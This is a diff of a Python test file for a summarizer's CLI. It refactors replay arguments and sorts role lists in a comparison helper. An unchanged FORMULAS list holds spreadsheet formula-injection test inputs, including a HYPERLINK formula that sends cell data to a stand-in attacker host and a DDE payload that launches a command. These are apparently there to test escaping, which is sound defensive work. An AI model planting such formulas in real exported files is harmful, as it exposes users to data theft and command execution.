@@ -21,6 +21,7 @@ from summarizer.score import gold
 from summarizer.summary import Summary
 
 GOLD = ROOT / "evals" / "gold"
+REPLAY = ["--recordings", str(ROOT / "fixtures" / "recordings"), "--model", "strong/2026-11"]
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1",
     "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''", "\x00=1",
@@ -41,7 +42,7 @@ def summaries(tmp_path_factory) -> Path:
     out = tmp_path_factory.mktemp("made") / "all.jsonl"
     articles = sorted(str(p) for p in (ROOT / "fixtures" / "articles").glob("*.txt"))
     with pytest.raises(SystemExit) as stop:
-        cli.run([*articles, "--recordings", str(ROOT / "fixtures" / "recordings"), "--with-text", "-o", str(out)])
+        cli.run([*articles, *REPLAY, "--with-text", "-o", str(out)])
     assert stop.value.code == 0
     return out
 
@@ -222,8 +223,10 @@ def test_our_own_labels_go_to_label_studio_and_come_back_the_same():
 
 
 def plain(item: Any) -> dict[str, Any]:
-    """An item without its id, which follows the order of the text, and without the sentence around an event."""
-    return {k: v for k, v in item.model_dump().items() if k not in ("id", "quote_ids", "evidence") or k == "content"}
+    """An item without its id and its order of roles, which follow the text, and the sentence around an event."""
+    found = {k: v for k, v in item.model_dump().items() if k not in ("id", "quote_ids", "evidence") or k == "content"}
+    roles = {k: sorted(found[k], key=lambda m: m["span"]["start"]) for k in ("actors", "targets") if k in found}
+    return found | roles
 
 
 def test_labels_made_elsewhere_can_be_scored(summaries, tmp_path, capsys):
@@ -236,8 +239,7 @@ def test_labels_made_elsewhere_can_be_scored(summaries, tmp_path, capsys):
     cases = gold.load(tmp_path / "mine")
     assert [case.gold.split for case in cases] == ["dev"] * 6
     with pytest.raises(SystemExit) as stop:
-        cli.run(["eval", "--gold", str(tmp_path / "mine"), "--recordings", str(ROOT / "fixtures" / "recordings"),
-                 "--report", "json"])  # fmt: skip
+        cli.run(["eval", "--gold", str(tmp_path / "mine"), *REPLAY, "--report", "json"])
     assert not stop.value.code
     figures = json.loads(capsys.readouterr().out)
     assert '"f1": 1.0' in json.dumps(figures)
